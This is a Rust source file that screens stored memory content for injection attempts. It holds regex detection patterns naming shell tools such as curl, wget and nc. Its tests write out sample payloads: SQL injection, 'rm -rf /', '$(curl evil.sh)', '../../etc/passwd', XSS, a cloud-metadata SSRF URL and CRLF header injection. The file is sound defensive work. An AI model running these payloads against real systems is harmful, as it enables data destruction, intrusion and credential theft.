//! Content screening (memory policy `content_screening`): the injection families a memory's
//! content looks like. What a namespace does with a finding (tag it, refuse it) is
//! [`crate::memories::screen`].

use regex::RegexSet;

/// Per-namespace content screening mode (memory policy `content_screening`).
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize, Default)]
#[serde(rename_all = "lowercase")]
pub enum ScreeningMode {
    #[default]
    Off,
    Flag,
    Block,
}

/// The injection families of the Dakera documentation, in reporting order.
pub const FAMILIES: [&str; 7] = ["sql", "nosql", "shell", "path_traversal", "xss", "ssrf", "crlf"];

fn patterns() -> &'static RegexSet {
    static SET: std::sync::OnceLock<RegexSet> = std::sync::OnceLock::new();
    SET.get_or_init(|| {
        RegexSet::new([
            // SQL: statement chaining, tautologies, comments after a quote, UNION SELECT.
            r"(?i)(;\s*(drop|delete|insert|update|alter|truncate|create)\s+\w|'\s*(or|and)\s+'?\d+'?\s*=\s*'?\d+|'\s*;?\s*--|\bunion\s+(all\s+)?select\b)",
            // NoSQL operator injection.
            r#"(?i)["']?\$(where|ne|gt|gte|lt|lte|regex|in|nin|or|and|expr)["']?\s*:"#,
            // Shell: command substitution or chaining into common commands.
            r"(\$\([^)]*\)|`[^`]+`|(;|&&|\|\|?)\s*(rm|curl|wget|bash|sh|nc|cat|chmod|python|perl)\b)",
            // Path traversal.
            r"(?i)(\.\./|\.\.\\|%2e%2e(%2f|/|%5c))",
            // XSS.
            r"(?i)(<\s*script\b|javascript:|\bon(error|load|click|mouseover)\s*=|<\s*iframe\b)",
            // SSRF targets: metadata services, loopback and private ranges in URLs.
            r"(?i)https?://(169\.254\.169\.254|metadata\.google\.internal|localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(1[6-9]|2\d|3[01])\.\d+\.\d+|\[::1\])",
            // CRLF injection (header splitting).
            r"(?i)(\r\n|%0d%0a)\s*[a-z-]+\s*:",
        ])
        .expect("screening patterns compile")
    })
}

/// The injection families found in `content`.
pub fn screen(content: &str) -> Vec<&'static str> {
    patterns().matches(content).into_iter().map(|i| FAMILIES[i]).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detects_each_family_and_passes_ordinary_text() {
        let cases = [
            ("'; DROP TABLE users; --", "sql"),
            ("x' OR '1'='1", "sql"),
            (r#"{"$where": "sleep(1000)"}"#, "nosql"),
            ("hello; rm -rf /", "shell"),
            ("$(curl evil.sh)", "shell"),
            ("../../etc/passwd", "path_traversal"),
            ("<script>alert(1)</script>", "xss"),
            ("<img src=x onerror=alert(1)>", "xss"),
            ("fetch http://169.254.169.254/latest/meta-data", "ssrf"),
            ("hi\r\nSet-Cookie: a=b", "crlf"),
        ];
        for (text, family) in cases {
            assert!(screen(text).contains(&family), "{text:?} should be {family}: {:?}", screen(text));
        }
        for ok in ["I prefer tea over coffee.", "Meeting at 10:30; bring the report", "The union selected a new chair"]
        {
            assert!(screen(ok).is_empty(), "{ok:?} flagged as {:?}", screen(ok));
        }
    }
}
